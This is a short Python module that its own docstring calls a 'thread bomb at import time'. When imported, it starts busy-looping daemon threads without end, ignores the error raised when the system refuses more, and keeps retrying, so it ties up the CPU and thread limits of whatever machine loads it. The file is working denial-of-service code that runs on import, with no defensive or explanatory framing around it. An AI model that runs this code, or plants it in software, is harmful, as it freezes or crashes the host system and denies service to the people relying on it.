"""Thread bomb at import time: start busy threads until the system refuses, then keep trying."""
import threading


def spin():
    while True:
        pass


while True:
    try:
        threading.Thread(target=spin, daemon=True).start()
    except RuntimeError:
        pass
